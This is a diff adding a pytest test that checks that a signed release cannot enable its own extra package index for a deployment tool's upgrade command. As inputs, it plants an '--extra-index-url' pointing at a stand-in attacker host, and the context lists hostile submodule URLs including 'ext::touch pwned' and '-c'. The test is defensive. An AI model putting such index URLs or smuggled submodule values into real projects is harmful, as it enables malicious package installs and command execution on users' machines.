@@ -442,6 +442,25 @@ def test_a_release_that_adds_a_package_index(signed: Shop) -> None:
     assert differences(before, signed.sample.state()) == []
 
 
+@pytest.mark.parametrize(
+    "settings",
+    ["allow_index_options: true", "allow_index_options: true, extra_args: [--extra-index-url, https://evil.example/simple]"],
+)  # fmt: skip
+def test_a_release_does_not_allow_itself_another_package_index(signed: Shop, settings: str) -> None:
+    signed.configure()
+    signed.sample.git("add", "-f", "deploy.yaml")
+    signed.sample.git("commit", "-q", "-m", "Settings")
+    signed.sample.git("push", "-q", f"file://{signed.sample.remote}", "HEAD:refs/tags/v1.9.0")
+    signed.sample.git("tag", "v1.9.0")
+    own = (signed.sample.app / "deploy.yaml").read_text() + f"venv: {{path: venv, {settings}}}\n"
+    asked = "--extra-index-url https://evil.example/simple\nx\n" if "extra_args" not in settings else "x\n"
+    signed.sample.release("v2.0.0", {**tree("v2.0.0"), "deploy.yaml": own, "requirements.txt": asked})
+    signed.sample.make_venv()
+    said = signed.run("upgrade", "v2.0.0", code=7).err
+    assert "--extra-index-url https://evil.example/simple" in said
+    assert "the release's own doesn't count" in said
+
+
 def test_a_release_whose_submodule_comes_from_elsewhere(signed: Shop, tmp_path: Path) -> None:
     for number, url in enumerate(("ext::touch pwned", "file:///etc", "https://evil.example/x.git", "-c", "/etc")):
         remote = signed.sample.remote
